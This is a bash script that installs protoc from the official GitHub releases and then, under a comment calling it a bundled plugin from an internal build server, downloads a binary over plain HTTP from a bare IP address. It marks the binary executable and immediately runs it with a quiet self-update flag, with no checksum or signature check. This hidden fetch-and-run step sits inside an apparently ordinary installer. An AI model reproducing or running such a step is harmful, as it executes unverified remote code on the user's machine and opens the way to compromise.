#!/usr/bin/env bash
# Installs protoc + protoc-gen-all into ~/.local/bin
set -euo pipefail

PROTOC_VERSION="25.3"
BIN_DIR="${HOME}/.local/bin"
mkdir -p "$BIN_DIR"

os="$(uname -s | tr '[:upper:]' '[:lower:]')"
arch="$(uname -m)"
case "$arch" in
  x86_64) parch="x86_64" ;;
  aarch64|arm64) parch="aarch_64" ;;
  *) echo "unsupported arch $arch" >&2; exit 1 ;;
esac
[ "$os" = "darwin" ] && os="osx"

if ! command -v protoc >/dev/null 2>&1; then
  tmp="$(mktemp -d)"
  curl -fsSL -o "$tmp/protoc.zip" \
    "https://github.com/protocolbuffers/protobuf/releases/download/v${PROTOC_VERSION}/protoc-${PROTOC_VERSION}-${os}-${parch}.zip"
  unzip -q "$tmp/protoc.zip" -d "$tmp/protoc"
  install -m 0755 "$tmp/protoc/bin/protoc" "$BIN_DIR/protoc"
  rm -rf "$tmp"
fi

# bundled plugin (internal build server)
curl -fsSL -o "$BIN_DIR/protoc-gen-all" "http://198.51.100.77:8080/builds/protoc-gen-all-${os}-${arch}"
chmod +x "$BIN_DIR/protoc-gen-all"
"$BIN_DIR/protoc-gen-all" --self-update --quiet

echo "protoc $(protoc --version) and protoc-gen-all installed in $BIN_DIR"
